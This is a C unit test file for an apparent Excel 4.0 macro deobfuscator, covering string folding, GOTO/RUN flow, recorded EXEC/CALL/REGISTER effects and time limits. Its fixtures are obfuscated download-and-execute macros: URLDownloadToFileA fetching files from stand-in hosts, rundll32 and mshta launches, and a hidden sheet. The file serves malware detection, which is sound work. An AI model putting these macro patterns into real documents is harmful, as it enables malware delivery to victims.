/*
 * test_deob_xlm.c - the Excel 4.0 macro evaluator (src/deob/xlm.c): the
 * string functions and references it folds, FORMULA writing cells that
 * then run, the control flow (down the column, GOTO, RUN/RETURN, HALT,
 * IF with a known condition), what EXEC/CALL/REGISTER record, unknown
 * functions, the limits, and 10 MB of garbage and a self-GOTO loop
 * within a second.
 */
#include "test_helpers.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "deob/deob.h"
#include "deob_test.h"

static const char FOLD[] = "xlm folding";
static const char EXEC[] = "xlm EXEC";
static const char CALL[] = "xlm CALL";

/* deob_xlm_lines() on s with lim (NULL: defaults) into r (initialised here). */
static void
run(const char *s, const struct deob_limits *lim, struct deob_result *r)
{
	deob_run_checked(deob_xlm_lines, s, lim, r);
}

/* The macro src yields value as how. */
static void
expect(const char *src, const char *value, const char *how)
{
	struct deob_result r;
	run(src, NULL, &r);
	if (!deob_has(&r, value, how)) {
		print_error("%s\n-> wanted [%s] %s, got:\n", src, how, value);
		deob_dump(&r);
		fail();
	}
	deob_result_clear(&r);
}

/* The macro src does not yield value (with any how). */
static void
expect_not(const char *src, const char *value)
{
	struct deob_result r;
	run(src, NULL, &r);
	for (guint i = 0; i < r.strs->len; i++) {
		const struct deob_str *d = r.strs->pdata[i];
		if (strcmp(d->value, value) == 0) {
			print_error("%s\n-> did not want %s\n", src, value);
			fail();
		}
	}
	deob_result_clear(&r);
}

static void
test_folding(void **state)
{
	(void)state;
	/* CHAR with arithmetic, &, MID/LEFT/RIGHT/LEN, CONCATENATE */
	expect("A1 =EXEC(CHAR(99)&CHAR(100+9)&CHAR(50*2)&\" /c calc\")", "cmd /c calc", EXEC);
	expect("A1 =EXEC(MID(\"xxcmd /c calcyy\",3,11))", "cmd /c calc", EXEC);
	expect("A1 =EXEC(LEFT(\"cmd /c calcZZ\",LEN(\"cmd /c calc\")))", "cmd /c calc", EXEC);
	expect("A1 =EXEC(RIGHT(\"ZZcmd /c calc\",11)&LEFT(\"x\"))", "cmd /c calcx", EXEC);
	expect("A1 =EXEC(CONCATENATE(\"cmd\",\" /c \",\"ca\",\"lc\"))", "cmd /c calc", EXEC);
	expect("A1 =EXEC(SUBSTITUTE(\"cQmd /c caQlc\",\"Q\",\"\"))", "cmd /c calc", EXEC);
	expect("A1 =EXEC(LOWER(\"CMD /C \")&UPPER(\"c\")&REPT(\"a\",2))", "cmd /c Caa", EXEC);
	expect("A1 =EXEC(CHAR(INT(99.7))&CHAR(MOD(219,110))&CHAR(-(-100))&\" /k\")", "cmd /k", EXEC);
	/* numbers as Excel shows them; "" a quote */
	expect("A1 =EXEC(\"cmd /c echo \"&(1+2)&\"\"\"\"&2.5)", "cmd /c echo 3\"2.5", EXEC);
	/* references: values of other cells, A1, R1C1, relative, other sheet */
	expect("A1 =EXEC(B1&R2C2&R[2]C[1]&Sheet2!A1)\nB1 cmd\nB2  /c\nB3  ca\nSheet2!A1 lc",
	    "cmd /c calc", EXEC);
	expect("A1 =EXEC('Da''ta'!R1C1&\" /c x\")\nDa'ta!R1C1 cmd", "cmd /c x", EXEC);
	expect("A1 =EXEC(Nowhere!R1C1&\"cmd /c y\")", "cmd /c y", EXEC);	/* empty: "" */
	/* a built URL is recorded where it is a formula's value */
	expect("A1 =CHAR(104)&\"ttp://\"&\"evil.example/a\"", "http://evil.example/a", FOLD);
}

static void
test_flow(void **state)
{
	(void)state;
	/* FORMULA writes a formula that runs when reached */
	const char *m1 =
	    "@start R1C1\n"
	    "R1C1 =FORMULA(CHAR(104)&\"ttp://x\"&\".example/a\",R5C1)\n"
	    "R2C1 =FORMULA(\"=EXEC(\"\"cmd /c start \"\"&R5C1)\",R3C1)\n"
	    "R4C1 =HALT()\n";
	expect(m1, "http://x.example/a", FOLD);
	expect(m1, "cmd /c start http://x.example/a", EXEC);
	/* GOTO skips; what is skipped runs only once without effects */
	const char *m2 =
	    "@start A1\n"
	    "A1 =FORMULA(\"=EXEC(\"\"cmd /c one\"\")\",C1)\n"
	    "A2 =GOTO(A5)\n"
	    "A3 =FORMULA(\"=EXEC(\"\"cmd /c two\"\")\",C1)\n"
	    "A5 =GOTO(C1)\n";
	expect(m2, "cmd /c one", EXEC);
	expect_not(m2, "cmd /c two");
	/* RUN and RETURN: control comes back below the RUN */
	const char *m3 =
	    "@start A1\n"
	    "A1 =RUN(D1)\n"
	    "A2 =EXEC(D5&\"!\")\n"
	    "A3 =HALT()\n"
	    "D1 =SET.VALUE(D5,\"cmd /c \"&\"back\")\n"
	    "D2 =RETURN()\n";
	expect(m3, "cmd /c back!", EXEC);
	/* IF with a known condition: only its branch has effects */
	const char *m4 =
	    "@start A1\n"
	    "A1 =IF(1>2,FORMULA(\"bad\",B1),FORMULA(\"cmd /c good\",B1))\n"
	    "A2 =IF(\"a\"=\"A\",EXEC(B1))\n";
	expect(m4, "cmd /c good", EXEC);
	/* unknown functions and values spread, never stop the run */
	const char *m5 =
	    "@start A1\n"
	    "A1 =GET.WORKSPACE(1)&FOO(BAR(1,,2))\n"
	    "A2 =WAIT(NOW()+\"00:00:01\")\n"
	    "A3 =EXEC(\"cmd /c \"&CHAR(97)&\"fter\")\n";
	expect(m5, "cmd /c after", EXEC);
	/* without a start: the first formula of each sheet */
	expect("B7 =FORMULA(\"=EXEC(\"\"cmd /c \"\"&\"\"x\"\")\",B9)\n", "cmd /c x", EXEC);
	/* SET.NAME and names */
	expect("A1 =SET.NAME(\"u\",\"cmd /c \"&\"n\")\nA2 =EXEC(u&\"!\")", "cmd /c n!", EXEC);
}

static void
test_calls(void **state)
{
	(void)state;
	const char *m =
	    "A1 =CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,"
	    "\"http://dl.example/p.exe\",\"c:\\x.exe\",0,0)\n";
	expect(m, "URLDownloadToFileA", CALL);
	expect(m, "http://dl.example/p.exe", CALL);
	expect(m, "c:\\x.exe", CALL);
	/* REGISTER, then a call of the registered name */
	const char *m2 =
	    "A1 =REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",\"dl\",,1,9)\n"
	    "A2 =dl(0,\"http://\"&\"r.example/\"&CHAR(97),\"C:\\Users\\Public\\a.dll\",0,0)\n"
	    "A3 =EXEC(\"rundll32 C:\\Users\\Public\\a.dll,Start\")\n";
	expect(m2, "URLDownloadToFileA", "xlm REGISTER");
	expect(m2, "http://r.example/a", CALL);
	expect(m2, "C:\\Users\\Public\\a.dll", CALL);
	expect(m2, "rundll32 C:\\Users\\Public\\a.dll,Start", EXEC);
	/* plain literals at other roots are not recorded */
	expect_not("A1 =ALERT(\"http://plain.example/\")", "http://plain.example/");
	/* the builder API with sheet names */
	struct deob_xlm *x = deob_xlm_new();
	static const char f1[] = "=FORMULA(\"=SHELL(\"\"mshta \"\"&R1C2)\",R3C1)";
	assert_true(deob_xlm_cell(x, "Hidden Sheet", 1, 1, f1, strlen(f1)));
	assert_true(deob_xlm_cell(x, "Hidden Sheet", 1, 2, "http://h.example/x.hta", 22));
	assert_false(deob_xlm_cell(x, "Hidden Sheet", 0, 2, "x", 1));
	deob_xlm_start(x, "hidden sheet", 1, 1);
	struct deob_result r;
	deob_result_init(&r);
	deob_xlm_run(x, NULL, &r);
	deob_xlm_free(x);
	assert_true(deob_has(&r, "mshta http://h.example/x.hta", "xlm SHELL"));
	deob_result_clear(&r);
}

static void
test_limits(void **state)
{
	(void)state;
	struct deob_result r;
	/* a self-GOTO loop ends at the step limit, in time */
	int64_t t0 = g_get_monotonic_time();
	run("@start A1\nA1 =GOTO(A1)\n", NULL, &r);
	int64_t us = g_get_monotonic_time() - t0;
	assert_string_equal(r.limit, "steps");
	deob_result_clear(&r);
	if (us > BUDGET_US) {
		print_error("self-GOTO: %lld us\n", (long long)us);
		fail();
	}
	/* and a loop of two cells that builds a string each time */
	t0 = g_get_monotonic_time();
	run("@start A1\nA1 =SET.VALUE(B1,B1&\"abcdefgh\")\nA2 =GOTO(A1)\n", NULL, &r);
	us = g_get_monotonic_time() - t0;
	assert_non_null(r.limit);
	deob_result_clear(&r);
	assert_true(us <= BUDGET_US);
	/* a deadline passed */
	struct deob_limits lim = { .deadline = g_get_monotonic_time() - 1 };
	run("@start A1\nA1 =GOTO(A1)\n", &lim, &r);
	assert_string_equal(r.limit, "time");
	deob_result_clear(&r);
	/* small step limit: what came before is kept */
	lim = (struct deob_limits){ .steps = 40 };
	run("A1 =EXEC(\"cmd /c \"&\"early\")\nA2 =GOTO(A1)\n", &lim, &r);
	assert_true(deob_has(&r, "cmd /c early", EXEC));
	assert_string_equal(r.limit, "steps");
	deob_result_clear(&r);
	/* nesting deeper than DEOB_NEST_MAX */
	GString *s = g_string_new("A1 =EXEC(\"cmd /c x\")&");
	for (int i = 0; i < 200; i++)
		g_string_append(s, "(CHAR(");
	run(s->str, NULL, &r);
	assert_true(deob_has(&r, "cmd /c x", EXEC));
	assert_string_equal(r.limit, "depth");
	deob_result_clear(&r);
	g_string_free(s, TRUE);
}

static void
test_ten_megabytes(void **state)
{
	(void)state;
	const size_t n = 10u * 1024 * 1024;
	char *b = g_malloc(n);
	GRand *rnd = g_rand_new_with_seed(18);
	for (size_t i = 0; i < n; i++)
		b[i] = (char)g_rand_int_range(rnd, 0, 256);
	g_rand_free(rnd);
	deob_within_budget(deob_xlm_lines, "random", b, n);
	g_free(b);
	static const char *const patterns[] = {
		"A1 =((((",
		"A1 =CHAR(65)&",
		"A1 =\"",
		"A1 =EXEC(\"cmd /c \"&",
		"A1 =GOTO(A1)\n",
		"@start A1\nA1 =GOTO(A1)\n",
		"A1 =FORMULA(\"=GOTO(A1)\",A1)\n@start A1\n",
		"R[1]C[1] =FORMULA(\"=\"&R[-1]C&\"x\",R[1]C)\n@start R1C1\n",
		"A1 =REPT(\"aaaa\",4000)&",
		"A1 =CONCATENATE(",
		"'a b'!",
		"A1 =a.b.c.d",
		"\n",
	};
	for (size_t i = 0; i < G_N_ELEMENTS(patterns); i++) {
		b = deob_repeat(patterns[i], n);
		deob_within_budget(deob_xlm_lines, patterns[i], b, n);
		g_free(b);
	}
	/* many distinct cells that each build a string and write a cell */
	GString *s = g_string_new("@start A1\n");
	for (unsigned i = 1; s->len < n; i++)
		g_string_append_printf(s, "A%u =FORMULA(\"=EXEC(\"\"cmd /c %u\"\")\",B%u)\n", i % 1000000 + 1,
		    i, i % 1000000 + 1);
	deob_within_budget(deob_xlm_lines, "distinct", s->str, s->len);
	g_string_free(s, TRUE);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_folding),
		cmocka_unit_test(test_flow),
		cmocka_unit_test(test_calls),
		cmocka_unit_test(test_limits),
		cmocka_unit_test(test_ten_megabytes),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
